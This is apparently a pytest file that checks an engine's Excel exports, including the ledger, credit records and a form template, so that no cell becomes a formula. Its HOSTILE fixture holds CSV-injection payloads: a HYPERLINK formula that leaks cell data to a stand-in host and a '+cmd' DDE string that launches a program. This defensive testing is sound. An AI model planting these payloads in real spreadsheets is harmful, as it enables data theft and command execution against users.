"""Issue 18 item 4: no cell of an exported workbook is a formula, whatever a user typed."""
from __future__ import annotations

import json
import shutil
from datetime import datetime
from io import BytesIO
from pathlib import Path

from openpyxl import load_workbook

from engine import Engine
from engine.credit import CreditQuery, export_records
from engine.forms import FormRegistry
from engine.ledger import LedgerQuery, export_clues
from engine.problem_list import template_xlsx
from engine.settings import EngineSettings
from engine.spreadsheet import row
from engine.spreadsheet import safe_text as cell

from ..factories import ClueDriver

HOSTILE = {"enterprise_name": '=HYPERLINK("http://x?d="&B2,"a")', "debtor": "@SUM(1)",
           "summary": "-2+3\u0007整改", "complainant_name": "+cmd|' /C calc'!A0"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def assert_no_formula(content: bytes) -> list[tuple]:
    book = load_workbook(BytesIO(content))
    rows = []
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for c in line:
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert not c.value.startswith(TRIGGERS), (sheet.title, c.coordinate, c.value)
            rows.append(tuple(c.value for c in line))
    return rows


def test_the_cell_rule() -> None:
    assert cell("=1+1") == "'=1+1" and cell("@A1") == "'@A1" and cell("\t=1") == "'\t=1" and cell("\r=1") == "'\r=1"
    assert cell("-5") == "'-5" and cell("+86 138") == "'+86 138" and cell("随州=1") == "随州=1"
    assert row([-5, 1.5, None, datetime(2023, 1, 2)]) == [-5, 1.5, None, datetime(2023, 1, 2)]
    assert cell("a\x00b\x1fc") == "abc"


def test_the_ledger_export_has_no_formula_and_keeps_numbers(engine: Engine) -> None:
    ClueDriver(engine, **HOSTILE)
    content, count = engine.run(export_clues, "office", LedgerQuery())
    rows = assert_no_formula(content)
    assert count == 1
    flat = [v for r in rows[1:] for v in r]
    assert "'" + HOSTILE["enterprise_name"] in flat and "'@SUM(1)" in flat
    assert 1280000 in flat  # the amount owed is still a number


def test_the_credit_export_has_no_formula(engine: Engine) -> None:
    clue = ClueDriver(engine, **HOSTILE)
    clue.to_spot_check()
    clue.spot_check("paper")
    content, count = engine.run(export_records, "discipline", CreditQuery())
    rows = assert_no_formula(content)
    assert count == 1 and "'@SUM(1)" in rows[1] and "'" + HOSTILE["enterprise_name"] in rows[1]


def test_the_problem_list_template_has_no_formula(tmp_path: Path) -> None:
    forms = tmp_path / "forms"
    shutil.copytree(EngineSettings().forms_dir, forms)
    intake = json.loads((forms / "intake.json").read_text(encoding="utf-8"))
    intake["schema"]["properties"]["debtor"]["title"] = "=1+1"
    intake["ui"]["fields"]["source"]["enum_labels"]["leadership"] = "@领导交办"
    (forms / "intake.json").write_text(json.dumps(intake, ensure_ascii=False), encoding="utf-8")
    assert_no_formula(template_xlsx(FormRegistry(forms)))
